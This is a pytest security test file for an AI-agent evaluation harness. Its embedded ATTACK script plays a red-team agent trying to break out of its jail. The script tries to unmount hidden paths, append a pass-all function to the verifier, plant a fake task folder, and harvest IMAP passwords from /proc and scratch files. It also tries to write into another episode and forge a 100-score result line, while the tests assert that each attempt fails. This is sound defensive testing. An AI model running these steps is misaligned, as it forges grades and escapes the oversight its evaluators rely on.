"""A `cmd:` agent that attacks its jail: every way the red team forged a grade or read an answer, as one
program (ATTACK below). It writes what it got into its agent folder; each test checks one attack, by its
effect on the machine where it can (the files, the other episode, the grade), and fails if it worked.

The program is told where things are (as an attacker who knows the layout would guess): the paths come
in an environment variable, so that they are not in its command line (which would bind their folders).
"""

from __future__ import annotations

import hashlib
import json
import os
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from stageclaw.run.runner import RunConfig, run
from stageclaw.run.store import read_results
from stageclaw.task.loader import load_task
from stageclaw.task.verifier import run_checks
from stageclaw.tools.mcp_server import serve_http
from stageclaw.tools.registry import Registry
from stageclaw.world import ServicePool, load_world
from tests.security.conftest import SECRETS, make_layout

VERIFIER_SECRET = "VERIFIERCOPYSECRET77e0"  # in the verifier another trial is being graded with

ATTACK = r"""
import glob, imaplib, json, os, re, subprocess, sys, time

T = json.loads(os.environ["ATTACK_TARGETS"])
got = {}


def attempt(name, fn):
    try:
        got[name] = fn()
    except BaseException as exc:
        got[name] = f"failed: {type(exc).__name__}: {exc}"[:300]


def read_tree(*roots):
    out = {}
    for root in roots:
        for path in glob.glob(os.path.join(root, "**"), recursive=True):
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                    out[path] = open(path, errors="replace").read()
            except OSError:
                pass
    return out


def status():
    text = open("/proc/self/status").read()
    return {k: re.search(k + r":\s*(\S+)", text).group(1) for k in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs")}


attempt("caps", status)
attempt("uid_map", lambda: open("/proc/self/uid_map").read())
# Whatever hides a place from it, it tries to take away.
masks = [T["task"] + "/hidden", T["run_dir"] + "/results.jsonl", T["run_dir"] + "/episodes", T["pool_scratch"]]
masks += glob.glob(T["pool_scratch"] + "/stageclaw-pool-*")
attempt("umount", lambda: [subprocess.run(["umount", "-l", p], capture_output=True).returncode for p in masks])
attempt("hidden", lambda: read_tree(T["task"] + "/hidden"))


def overwrite_verifier():
    with open(T["task"] + "/hidden/verify.py", "a") as out:
        out.write("\n" + T["pass_all"])
    return "appended"


attempt("verify_py", overwrite_verifier)


def plant_task():
    os.rename(T["task"], T["task"] + "-moved")
    os.makedirs(T["task"] + "/hidden")
    open(T["task"] + "/hidden/verify.py", "w").write(T["pass_all"])
    return "planted"


attempt("task_folder", plant_task)


def credentials():
    found = set()
    texts = read_tree(T["pool_scratch"])
    for pid in os.listdir("/proc"):
        for part in ("environ", "cmdline"):
            try:
                texts[f"/proc/{pid}/{part}"] = open(f"/proc/{pid}/{part}", "rb").read().decode(errors="replace")
            except OSError:
                pass
    for text in texts.values():
        found |= set(re.findall(r"(u[0-9a-f]{12}):\{PLAIN\}(\S+)", text))
        found |= set(re.findall(r"(u[0-9a-f]{12}):([A-Za-z0-9_-]{24})\n", text))
    for login, password in sorted(found):
        try:
            imap = imaplib.IMAP4("127.0.0.1", T["imap_port"])
            imap.login(login, password)
            imap.select("INBOX")
            imap.store("1:*", "+FLAGS", "\\Flagged")
            imap.logout()
            return {"logged_in": login, "texts": list(texts)}
        except Exception:
            continue
    return {"found": sorted(found), "places": len(texts), "all": "\n".join(texts.values())[-200000:]}


attempt("imap", credentials)
attempt("other_workspace", lambda: open(T["other_workspace"] + "/pwned.txt", "w").write("pwned"))
attempt("git", lambda: subprocess.run(["git", "-C", T["checkout"], "log", "-p", "--all"], capture_output=True, text=True).stdout)
attempt("original_and_siblings", lambda: read_tree(T["checkout"] + "/tasks"))
attempt("provenance", lambda: open(T["task"] + "/task.toml").read() + open(T["task"] + "-moved/task.toml").read())
attempt("earlier_runs", lambda: read_tree(T["checkout"] + "/runs", T["checkout"] + "/validation"))


def other_run_call():
    import anyio
    from mcp import Client

    for config in glob.glob(T["other_run"] + "/**/mcp.json", recursive=True):
        url = json.load(open(config))["mcpServers"]["stageclaw"]["url"]

        async def call():
            async with Client(url) as client:
                return await client.call_tool("files_write", {"path": "from-another-run.txt", "content": "pwned"})

        anyio.run(call)
        return "called " + url
    return "no mcp.json"


attempt("other_run", other_run_call)


def verifier_copies():
    seen = {}
    deadline = time.monotonic() + 6
    while time.monotonic() < deadline and not seen:
        for root in {"/tmp", os.environ.get("TMPDIR", "/tmp"), "/dev/shm", "/var/tmp"}:
            seen.update(read_tree(*glob.glob(root + "/stageclaw-verify-*")))
        time.sleep(0.01)
    return seen


attempt("verifier_copy", verifier_copies)
attempt("stageclaw_source", lambda: open(T["stageclaw_file"], "a").close() or "writable")
attempt("results", lambda: open(T["run_dir"] + "/results.jsonl", "a").write(T["forged"] + "\n"))
attempt("made_file", lambda: open("made-by-agent.txt", "w").write("x"))
json.dump(got, open(os.path.join(os.path.dirname(os.environ["STAGECLAW_PROMPT_FILE"]), "got.json"), "w"))
print("attacked")
"""
PASS_ALL = "def check_moved(*a):\n    return True\n"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Run ATTACK once as the agent of the copied task, while another episode and another run's MCP
    endpoint are live and another trial is being graded; what it got, and the evidence to judge it by."""
    tmp = tmp_path_factory.mktemp("jail")
    lay = make_layout(tmp)
    run_dir = tmp / "run"
    other_run = lay.checkout / "runs" / "other"
    task = load_task(lay.task)
    secret_verify = tmp / "verify-of-another-task.py"
    secret_verify.write_text(f"# {VERIFIER_SECRET}\ndef check(i, f, t):\n    return True\n")
    grading = threading.Event()
    uids: set[tuple[int, str]] = set()

    def grade_others() -> None:  # another trial's grading, again and again, while the agent runs
        while not grading.is_set():
            run_checks(secret_verify, ["check"], {}, {}, {})

    def watch() -> None:  # the host uids of the agent's processes, as the host sees them
        while not grading.is_set():
            uids.update(_uids_of("attack.py"))
            time.sleep(0.05)

    verify_before = hashlib.sha256((lay.task / "hidden" / "verify.py").read_bytes()).hexdigest()
    source = Path(__file__).resolve().parents[2] / "src" / "stageclaw" / "grade" / "grader.py"
    source_before = source.read_bytes()
    world, base = load_world(lay.task)
    with ServicePool() as pool, pool.episode(world, base) as other, Registry(other) as other_reg:
        (other.workspace / "canary.txt").write_text("other episode")
        with serve_http(other_reg) as url:
            (other_run / "episodes" / "t__t1" / "agent").mkdir(parents=True)
            config = {"mcpServers": {"stageclaw": {"type": "http", "url": url}}}
            (other_run / "episodes" / "t__t1" / "agent" / "mcp.json").write_text(json.dumps(config))
            targets = {
                "task": str(lay.task),
                "checkout": str(lay.checkout),
                "pool_scratch": str(pool.root.parent),
                "imap_port": pool.dovecot.port,
                "other_workspace": str(other.workspace),
                "other_run": str(other_run),
                "stageclaw_file": str(source),
                "run_dir": str(run_dir),
                "pass_all": PASS_ALL,
                "forged": json.dumps({"task_id": task.id, "score": 100, "success": True, "forged": True}),
            }
            os.environ["ATTACK_TARGETS"] = json.dumps(targets)
            helpers = [threading.Thread(target=grade_others), threading.Thread(target=watch)]
            for helper in helpers:
                helper.start()
            try:
                run([task], RunConfig(agent=f"cmd:{lay.script(ATTACK)}", out=run_dir))
                crashed = None
            except Exception as exc:  # a forged result line may break the run's summary: judged below
                crashed = repr(exc)
            finally:
                grading.set()
                for helper in helpers:
                    helper.join()
                del os.environ["ATTACK_TARGETS"]
        other_files = sorted(p.name for p in other.workspace.iterdir())
        other_audit = list(other_reg.audit.entries)
        other_inbox = other.snapshot()["mail"]["folders"]["INBOX"]
    ep = run_dir / "episodes" / f"{task.id}__t1"
    got = json.loads((ep / "agent" / "got.json").read_text())
    return {
        "got": got,
        "text": json.dumps(got),
        "results": (run_dir / "results.jsonl").read_text().splitlines(),
        "result": read_results(run_dir / "results.jsonl"),
        "sH": json.loads((ep / "sH.json").read_text()),
        "s0": json.loads((ep / "s0.json").read_text()),
        "task": lay.task,
        "verify_before": verify_before,
        "source_same": source.read_bytes() == source_before,
        "other_files": other_files,
        "other_audit": other_audit,
        "other_inbox": other_inbox,
        "uids": uids,
        "crashed": crashed,
    }


def _uids_of(marker: str) -> set[tuple[int, str]]:
    """(host uid, name) of every live process whose command line holds `marker`."""
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                status = Path(f"/proc/{pid}/status").read_text()
                found.add((int(status.split("Uid:")[1].split()[0]), status.split("Name:")[1].split()[0]))
        except (OSError, IndexError):
            continue
    return found


def _no_secret(attacked: dict[str, Any], *names: str) -> None:
    leaked = [name for name in names if SECRETS[name] in attacked["text"]]
    assert leaked == [], f"the agent read {leaked}"


def test_it_ran_and_was_graded(attacked):
    assert attacked["crashed"] is None
    [result] = [r for r in attacked["result"] if r.get("agent", "").startswith("cmd:")]
    assert result["status"] == "completed", result["error"]
    assert result["success"] is False and result["score"] < 100  # it did nothing the task asked


def test_no_capability_and_a_uid_that_owns_nothing(attacked):
    caps = attacked["got"]["caps"]
    assert caps["CapEff"] == caps["CapPrm"] == "0000000000000000" and caps["NoNewPrivs"] == "1"
    assert attacked["got"]["uid_map"].split()[0] == "1000"
    # Seen from the host, the agent ran as a uid of its own: no account has it, no file of the host is its.
    # (Root runs only what builds the jail: bubblewrap, and setpriv until it drops to the jail's uid.)
    assert {name for uid, name in attacked["uids"] if uid == 0} <= {"bwrap", "setpriv"}, attacked["uids"]
    jail_uids = {uid for uid, _ in attacked["uids"]} - {0}
    assert len(jail_uids) == 1 and min(jail_uids) >= 0x7E000000, attacked["uids"]
    assert attacked["sH"]["files"]["made-by-agent.txt"]["text"] == "x"  # it did run, and write, in its workspace


def test_cannot_read_the_hidden_folder(attacked):
    _no_secret(attacked, "hidden")


def test_cannot_change_the_verifier_or_plant_one(attacked):
    task: Path = attacked["task"]
    after = hashlib.sha256((task / "hidden" / "verify.py").read_bytes()).hexdigest()
    assert after == attacked["verify_before"]
    assert not task.with_name(task.name + "-moved").exists()
    assert attacked["got"]["verify_py"] != "appended" and attacked["got"]["task_folder"] != "planted"


def test_no_credential_and_no_unaudited_change_over_imap(attacked):
    got = attacked["got"]["imap"]
    assert "logged_in" not in got, got
    flagged = [m for m in attacked["sH"]["mail"]["folders"]["INBOX"] if "\\Flagged" in m["flags"]]
    assert flagged == [] and all("\\Flagged" not in m["flags"] for m in attacked["other_inbox"])


def test_cannot_write_into_another_episode(attacked):
    assert attacked["other_files"] == ["canary.txt", "docs"]  # what it was seeded with


def test_cannot_read_the_checkouts_history(attacked):
    _no_secret(attacked, "history")


def test_cannot_read_the_original_task_or_its_neighbours(attacked):
    _no_secret(attacked, "original", "sibling")


def test_cannot_read_the_provenance(attacked):
    _no_secret(attacked, "provenance")


def test_cannot_read_earlier_runs_or_validation_reports(attacked):
    _no_secret(attacked, "earlier")


def test_cannot_call_another_runs_episode(attacked):
    assert attacked["other_audit"] == []
    assert "from-another-run.txt" not in attacked["other_files"]


def test_cannot_read_the_verifier_of_another_trial(attacked):
    assert VERIFIER_SECRET not in attacked["text"]


def test_cannot_write_the_installed_stageclaw(attacked):
    assert attacked["source_same"]
    assert attacked["got"]["stageclaw_source"] != "writable"


def test_cannot_forge_a_result_line(attacked):
    assert [json.loads(line).get("forged") for line in attacked["results"]] == [None]
